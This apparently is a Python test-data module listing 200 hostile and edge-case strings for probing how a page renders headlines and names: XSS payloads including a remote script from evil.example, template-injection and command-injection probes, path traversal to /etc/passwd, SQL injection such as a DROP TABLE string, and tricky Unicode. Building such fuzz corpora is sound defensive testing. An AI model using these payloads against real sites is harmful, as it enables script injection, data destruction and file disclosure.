"""Two hundred strings that somebody might put into a headline, a name or a quotation to see what a page does."""

# ruff: noqa: E501 - one string stands beside the other

from __future__ import annotations

_RUN = "document.title='HIT'"
_MARKUP = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src=//evil.example/x.js></script {_RUN}>",
    f"<img src=x onerror={_RUN}>", f'"><img src=x onerror="{_RUN}">', f"'><img src=x onerror='{_RUN}'>",
    f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>", f"<a href='javascript:{_RUN}'>x</a>", f"javascript:{_RUN}",
    f"<math><mtext><script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}', f"' onmouseover='{_RUN}", f"` onclick=`{_RUN}", f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>", f"<marquee onstart={_RUN}>",
    f"<object data='javascript:{_RUN}'>", f"<embed src='javascript:{_RUN}'>", "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<link rel=stylesheet href=http://evil.example/x>",
    "<style>@import 'http://evil.example/x'</style>", "<form action=http://evil.example><input type=submit>",
    "<plaintext>", "<!--", "<![CDATA[", "</main></body></html>", "<template><b>x</b></template>", "<b>bold</b>",
    "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-", "<\u0000script>",
)
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% for x in y %}", "{# comment #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('x')()}}", "%s %d %n", "{0} {name!r}", "$(id)", "`id`", "; ls -la", "| cat",
    "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "C:\\nul", "con", "\r\nSet-Cookie: x=y", "a\tb",
)
_SQL = (
    "' OR '1'='1", "'; DROP TABLE documents; --", '" OR ""="', "1; SELECT 1", "') UNION SELECT NULL --", "%", "_", "\\",
    "NEAR(a b)", '"', "'", "a AND", "NOT", "title:x", "*", "^", "a* OR b", "{a b}", "-a", "(", ")", "+", "''", '""', "--",
)
_URLS = ("http://evil.example/", "//evil.example", "https://evil.example/?q=<x>", "mailto:x@evil.example", "data:text/html,x",
         f"data:text/html,<script>{_RUN}</script>", "vbscript:x", "http://[::1", "http://127.0.0.1:1/", "#s1", "?x=1&y=2")
_SCRIPTS = (
    "\u202eevil\u202c", "\u2066abc\u2069", "\u200fשלום", "שלום abc عربي", "مرحبا بالعالم", "你好，世界", "日本語のテキスト", "한국어", "ไทย",
    "हिन्दी", "Ω≈ç√∫", "Ŝ̴̢̛̩͇ ̵z̷a̸l̴g̶o", "e\u0301", "é", "\ufeffBOM", "a\u200bb", "a\u00adb", "\u2028line", "\u2029para",
    "👩‍👩‍👧‍👦", "🇺🇳", "ﷺ", "ﬁ ligature", "ß ẞ ı İ", "1️⃣", "\u0301", "\U000e0001tag", "\uffff", "\ufffd", "½ ² ∞",
)
_ODD = ("", " ", "\u00a0", "0", "null", "undefined", "NaN", "None", "true", "[]", "{}", "-0", "1e309", "0x0", "a" * 300,
        "W" * 120, "a b " * 80, ".", "…", "—", "“”", "‘", "•", "«»", "&", "&amp;", "&nbsp;", "<", ">", "<>", "</>", "<3",
        "a<b>c", "x & y", "a\nb", "a\n\nb")
_PLAIN = tuple(f"{mark}{word}{mark}" for word in ("alert(1)", "onload", "eval('x')", "style=color:red")
               for mark in ("'", '"', "`", "<!>", "/*", "//", "\\", "{{", "}}", "&quot;", "%22", "\u201d"))

STRINGS = tuple(s for s in (*_MARKUP, *_TEMPLATES, *_SQL, *_URLS, *_SCRIPTS, *_ODD, *_PLAIN) if s.strip())[:200]
